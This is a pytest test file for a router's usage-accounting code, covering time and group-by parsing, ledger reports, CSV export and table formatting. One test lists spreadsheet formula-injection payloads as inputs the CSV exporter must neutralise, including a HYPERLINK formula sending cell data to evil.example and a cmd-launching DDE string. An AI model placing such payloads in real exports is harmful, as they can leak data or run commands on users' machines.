from __future__ import annotations

import csv
import io
import itertools
import time
from collections.abc import AsyncIterator

import pytest

from router.accounting.ledger import GROUP_KEYS, CallLedger, Ledger, LedgerRow
from router.accounting.usage import (
    UsageQuery,
    parse_group_by,
    parse_time,
    query,
    report,
    to_csv,
    to_table,
    totals,
)
from router.errors import InvalidRequest

# 2024-03-10 12:00:00 UTC, and the UTC midnight that began that day.
NOON = 1710072000.0
MIDNIGHT = 1710028800.0
DAY = 86400.0
METRICS = ["requests", "errors", "prompt_tokens", "completion_tokens", "cost_usd",
           "hosted_equiv_usd", "saving_usd"]


# -- parse_time ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, -1.0),
        ("", -1.0),
        ("   ", -1.0),
        ("1710072000", NOON),
        ("1710072000.25", NOON + 0.25),
        (" 1710072000 ", NOON),
        ("0", 0.0),
        ("2024-03-10", MIDNIGHT),
        ("20240310", 20240310.0),  # all digits: unix seconds win over ISO basic format
        ("2024-03-10T12:00:00Z", NOON),
        ("2024-03-10T12:00:00.5Z", NOON + 0.5),
        ("2024-03-10T12:00:00+00:00", NOON),
        ("2024-03-10T14:00:00+02:00", NOON),
        ("2024-03-10T07:00:00-05:00", NOON),
        ("2024-03-11T01:30:00+13:30", NOON),
        ("2024-03-10T12:00:00", NOON),  # naive: UTC, not the server's zone
        ("2024-03-10 12:00:00", NOON),
        ("2024-03-10T12:00", NOON),
    ],
)
def test_parse_time(text: str | None, expected: float) -> None:
    assert parse_time(text, -1.0, "since") == expected


@pytest.mark.parametrize(
    "text",
    ["yesterday", "2024-13-01", "2024-03-32", "2024-03-10T25:00", "10/03/2024", "12:00:00",
     "1710072000s", "2024-03-10T12:00:00+25:00", "--"],
)
@pytest.mark.parametrize("name", ["since", "until"])
def test_parse_time_garbage_is_invalid_request(text: str, name: str) -> None:
    with pytest.raises(InvalidRequest) as exc:
        parse_time(text, 0.0, name)
    err = exc.value
    assert err.status == 400
    assert err.param == name
    assert f"'{name}'" in err.message


def test_parse_time_rejects_nan() -> None:
    with pytest.raises(InvalidRequest):
        parse_time("nan", 0.0, "since")


# -- parse_group_by ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, ("caller",)),
        ("", ("caller",)),
        ("alias", ("alias",)),
        ("caller,alias", ("caller", "alias")),
        ("alias,caller", ("alias", "caller")),
        (" caller , day ", ("caller", "day")),
        ("caller,,alias,", ("caller", "alias")),
        ("caller,caller,alias,caller", ("caller", "alias")),
        ("day,backend,route,alias,caller", ("day", "backend", "route", "alias", "caller")),
    ],
)
def test_parse_group_by(text: str | None, expected: tuple[str, ...]) -> None:
    assert parse_group_by(text) == expected
    assert set(expected) <= GROUP_KEYS


@pytest.mark.parametrize(
    ("text", "bad"),
    [("model", "model"), ("caller,bogus", "bogus"), ("CALLER", "CALLER"),
     ("caller;alias", "caller;alias"), ("ts", "ts"), ("cost_usd", "cost_usd")],
)
def test_parse_group_by_invalid(text: str, bad: str) -> None:
    with pytest.raises(InvalidRequest) as exc:
        parse_group_by(text)
    err = exc.value
    assert err.status == 400
    assert err.param == "group_by"
    assert bad in err.message
    for key in GROUP_KEYS:  # it says what would have worked
        assert key in err.message


# -- query ---------------------------------------------------------------------------


def test_query_defaults_to_today_so_far() -> None:
    q = query(None, None, None, None, now=NOON)
    assert q == UsageQuery(since=MIDNIGHT, until=NOON + 1, group_by=("caller",), caller=None)


def test_query_default_since_is_midnight_even_at_midnight() -> None:
    assert query(None, None, None, None, now=MIDNIGHT).since == MIDNIGHT
    assert query(None, None, None, None, now=MIDNIGHT - 0.5).since == MIDNIGHT - DAY


def test_query_explicit_values() -> None:
    q = query("2024-03-01", "2024-03-10T12:00:00Z", "alias,day", "app", now=NOON)
    assert q == UsageQuery(since=MIDNIGHT - 9 * DAY, until=NOON, group_by=("alias", "day"),
                           caller="app")


def test_query_now_defaults_to_the_clock() -> None:
    before = time.time()
    q = query(None, None, None, None)
    after = time.time()
    assert q.since <= before
    assert before + 1 <= q.until <= after + 1


@pytest.mark.parametrize(
    ("since", "until"),
    [
        ("2024-03-10", "2024-03-10"),  # empty window
        ("2024-03-10", "2024-03-09"),
        (str(NOON), str(NOON - 1)),
        ("2024-03-11", None),  # default until is now + 1 s, before this since
    ],
)
def test_query_until_must_follow_since(since: str, until: str | None) -> None:
    with pytest.raises(InvalidRequest) as exc:
        query(since, until, None, None, now=NOON)
    assert exc.value.param == "until"


@pytest.mark.parametrize(
    ("since", "until", "group_by", "param"),
    [("soon", None, None, "since"), (None, "later", None, "until"),
     (None, None, "model", "group_by")],
)
def test_query_reports_the_bad_parameter(
    since: str | None, until: str | None, group_by: str | None, param: str
) -> None:
    with pytest.raises(InvalidRequest) as exc:
        query(since, until, group_by, None, now=NOON)
    assert exc.value.param == param


# -- report (a real ledger) ----------------------------------------------------------


def ledger_row(
    request_id: str,
    *,
    ts: float = NOON,
    caller: str = "app",
    alias: str = "demo",
    route: str = "hosted",
    cost: float = 0.01,
    equiv: float = 0.03,
    status: int = 200,
) -> LedgerRow:
    return LedgerRow(
        ts=ts, request_id=request_id, caller=caller, alias=alias, route=route,
        backend="mistral" if route == "hosted" else "demo-local", model_id="m",
        prompt_tokens=10, completion_tokens=5, cost_usd=cost, hosted_equiv_usd=equiv,
        latency_s=0.5, ttft_s=0.1, status=status, reason="test", endpoint="chat",
    )


async def start_with_rows(led: CallLedger) -> None:
    await led.start()
    for r in [
        ledger_row("a1"),
        ledger_row("a2", ts=NOON + 60, route="local", cost=0.0, equiv=0.03),
        ledger_row("a3", ts=NOON + 120, alias="code", status=500, cost=0.0, equiv=0.0),
        ledger_row("b1", caller="batch", route="local", cost=0.001, equiv=0.02),
        ledger_row("old", ts=NOON - DAY),  # yesterday: outside today's window
        ledger_row("late", ts=NOON + DAY),  # tomorrow: outside it too
    ]:
        await led.record(r)


# PostgreSQL runs the report tests in tests/integration/test_usage_pg.py.
@pytest.fixture(params=["sqlite"])
async def ledger(request: pytest.FixtureRequest) -> AsyncIterator[CallLedger]:
    led = Ledger(":memory:")
    await start_with_rows(led)
    yield led
    await led.stop()


def metrics(requests: int, errors: int, cost: float, equiv: float) -> dict[str, object]:
    return {
        "requests": requests, "errors": errors, "prompt_tokens": 10 * requests,
        "completion_tokens": 5 * requests, "cost_usd": pytest.approx(cost),
        "hosted_equiv_usd": pytest.approx(equiv), "saving_usd": pytest.approx(equiv - cost),
    }


async def test_report_by_caller(ledger: CallLedger) -> None:
    rows = report(ledger, query(None, None, None, None, now=NOON + 3600))
    assert rows == [
        {"caller": "app", **metrics(3, 1, 0.01, 0.06)},
        {"caller": "batch", **metrics(1, 0, 0.001, 0.02)},
    ]


async def test_report_by_caller_and_alias_for_one_caller(ledger: CallLedger) -> None:
    q = query(None, None, "caller,alias", "app", now=NOON + 3600)
    assert report(ledger, q) == [
        {"caller": "app", "alias": "code", **metrics(1, 1, 0.0, 0.0)},
        {"caller": "app", "alias": "demo", **metrics(2, 0, 0.01, 0.06)},
    ]


async def test_report_by_day_over_a_window(ledger: CallLedger) -> None:
    q = query(str(NOON - DAY), "2024-03-12", "day", None, now=NOON)
    assert [(r["day"], r["requests"]) for r in report(ledger, q)] == [
        ("2024-03-09", 1), ("2024-03-10", 4), ("2024-03-11", 1),
    ]


async def test_report_window_is_half_open(ledger: CallLedger) -> None:
    q = query(str(NOON), str(NOON + 60), "route", None, now=NOON)
    assert [(r["route"], r["requests"]) for r in report(ledger, q)] == [
        ("hosted", 1), ("local", 1),  # a1 and b1 at NOON; a2 at NOON + 60 is out
    ]


async def test_report_empty_window_and_unknown_caller(ledger: CallLedger) -> None:
    assert report(ledger, query("2020-01-01", "2020-01-02", None, None, now=NOON)) == []
    assert report(ledger, query(None, None, None, "nobody", now=NOON + 3600)) == []


async def test_report_shapes_end_to_end(ledger: CallLedger) -> None:
    q = query(None, None, "route,caller", None, now=NOON + 3600)
    rows = report(ledger, q)
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows, q.group_by))))
    assert [(r["route"], r["caller"], r["requests"]) for r in parsed] == [
        ("hosted", "app", "2"), ("local", "app", "1"), ("local", "batch", "1"),
    ]
    table = to_table(rows, q.group_by).splitlines()
    assert table[-1].split() == ["TOTAL", "4", "1", "40", "20", "0.011000", "0.080000",
                                 "0.069000"]


# -- totals / to_csv / to_table ------------------------------------------------------

ROWS: list[dict[str, object]] = [
    {"caller": "app", "alias": "demo", "requests": 3, "errors": 1, "prompt_tokens": 30,
     "completion_tokens": 15, "cost_usd": 0.012345, "hosted_equiv_usd": 0.05,
     "saving_usd": 0.037655},
    {"caller": "batch-jobs", "alias": "code", "requests": 1200, "errors": 0,
     "prompt_tokens": 100000, "completion_tokens": 2, "cost_usd": 0.0,
     "hosted_equiv_usd": 1.5, "saving_usd": 1.5},
]


def test_totals() -> None:
    assert totals([]) == dict.fromkeys(METRICS, 0.0)
    t = totals(ROWS)
    assert list(t) == METRICS
    assert t == {
        "requests": 1203, "errors": 1, "prompt_tokens": 100030, "completion_tokens": 17,
        "cost_usd": pytest.approx(0.012345), "hosted_equiv_usd": pytest.approx(1.55),
        "saving_usd": pytest.approx(1.537655),
    }


def test_totals_skip_missing_and_non_numeric_values() -> None:
    rows: list[dict[str, object]] = [
        {"caller": "a", "requests": 2, "cost_usd": None},
        {"caller": "b", "requests": "3", "errors": 1},
        {"requests": 1.5},
    ]
    assert totals(rows) == {**dict.fromkeys(METRICS, 0.0), "requests": 3.5, "errors": 1.0}


def test_to_csv() -> None:
    text = to_csv(ROWS, ["caller", "alias"])
    lines = text.splitlines()
    assert lines[0] == ",".join(["caller", "alias", *METRICS])
    assert lines[1] == "app,demo,3,1,30,15,0.012345,0.05,0.037655"
    assert lines[2] == "batch-jobs,code,1200,0,100000,2,0.0,1.5,1.5"
    assert len(lines) == 3
    assert text.endswith("\n")
    assert "\r" not in text


@pytest.mark.parametrize(
    ("group_by", "header"),
    [([], METRICS), (["alias"], ["alias", *METRICS]),
     (["day", "caller"], ["day", "caller", *METRICS])],
)
def test_to_csv_group_columns_first(group_by: list[str], header: list[str]) -> None:
    parsed = list(csv.reader(io.StringIO(to_csv(ROWS, group_by))))
    assert parsed[0] == header
    assert len(parsed) == 1 + len(ROWS)
    if "day" in group_by:
        assert parsed[1][0] == ""  # a column the rows lack stays empty


def test_to_csv_empty_is_the_header_only() -> None:
    assert to_csv([], ["caller"]) == ",".join(["caller", *METRICS]) + "\n"


def test_to_csv_quotes_awkward_values() -> None:
    rows: list[dict[str, object]] = [{"caller": 'a,"b"\nc', "requests": 1}]
    parsed = list(csv.reader(io.StringIO(to_csv(rows, ["caller"]))))
    assert parsed[1][:2] == ['a,"b"\nc', "1"]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
])
def test_to_csv_neutralises_cells_a_spreadsheet_would_run(text: str) -> None:
    rows: list[dict[str, object]] = [{"caller": text, "alias": text, "requests": 1,
                                      "saving_usd": -0.25}]
    out = to_csv(rows, ["caller", "alias"])
    assert "\r" not in out  # a bare CR would end the row for most readers
    parsed = list(csv.reader(io.StringIO(out)))
    assert len(parsed) == 2
    cell = "'" + text.replace("\r", "\n")
    assert parsed[1][:2] == [cell, cell]
    # Numbers are the ledger's own: a negative saving stays a number.
    assert parsed[1][2] == "1" and parsed[1][-1] == "-0.25"


def test_to_csv_keeps_ordinary_text_as_it_is() -> None:
    rows: list[dict[str, object]] = [{"caller": "app=1", "alias": "a-b+c@d", "requests": 1}]
    parsed = list(csv.reader(io.StringIO(to_csv(rows, ["caller", "alias"]))))
    assert parsed[1][:2] == ["app=1", "a-b+c@d"]


def column_spans(table: str) -> list[tuple[int, int]]:
    """Start and end of each column, from the dashed line under the header."""
    dashes = table.splitlines()[1]
    spans, start = [], 0
    for part in dashes.split("  "):
        spans.append((start, start + len(part)))
        start += len(part) + 2
    return spans


def test_to_table_is_aligned_with_a_total_row() -> None:
    table = to_table(ROWS, ["caller", "alias"])
    lines = table.splitlines()
    assert len(lines) == 2 + len(ROWS) + 1
    assert len({len(line) for line in lines}) == 1  # every line padded to the same width
    assert set(lines[1]) == {"-", " "}
    spans = column_spans(table)
    assert len(spans) == 2 + len(METRICS)
    header = [lines[0][a:b].strip() for a, b in spans]
    assert header == ["caller", "alias", *METRICS]
    cells = [[line[a:b] for a, b in spans] for line in lines[2:]]
    assert [c.strip() for c in cells[0]] == [
        "app", "demo", "3", "1", "30", "15", "0.012345", "0.050000", "0.037655"]
    assert [c.strip() for c in cells[1]] == [
        "batch-jobs", "code", "1200", "0", "100000", "2", "0", "1.500000", "1.500000"]
    assert [c.strip() for c in cells[2]] == [
        "TOTAL", "", "1203", "1", "100030", "17", "0.012345", "1.550000", "1.537655"]
    for row in cells:
        assert row[0] == row[0].lstrip()  # group columns: left-aligned
        for cell in row[2:]:
            assert cell == cell.rstrip()  # numbers: right-aligned
    # The separator between columns is blank on every line.
    for line in lines:
        for (_, end), (start, _) in itertools.pairwise(spans):
            assert line[end:start] == "  "


def test_to_table_without_groups_and_without_rows() -> None:
    lines = to_table([], []).splitlines()
    assert lines[0].split() == METRICS
    assert lines[2].split() == ["0"] * len(METRICS)
    assert len(lines) == 3
    lines = to_table([], ["caller"]).splitlines()
    assert lines[0].split() == ["caller", *METRICS]
    assert lines[-1].split() == ["TOTAL", *["0"] * len(METRICS)]
    assert len(lines) == 3


def test_to_table_widens_columns_for_long_values() -> None:
    rows: list[dict[str, object]] = [{"caller": "a-very-long-caller-name", "requests": 1}]
    lines = to_table(rows, ["caller"]).splitlines()
    spans = column_spans("\n".join(lines))
    assert spans[0] == (0, len("a-very-long-caller-name"))
    assert lines[2].startswith("a-very-long-caller-name  ")
    assert lines[3].startswith("TOTAL" + " " * (len("a-very-long-caller-name") - 5) + "  ")
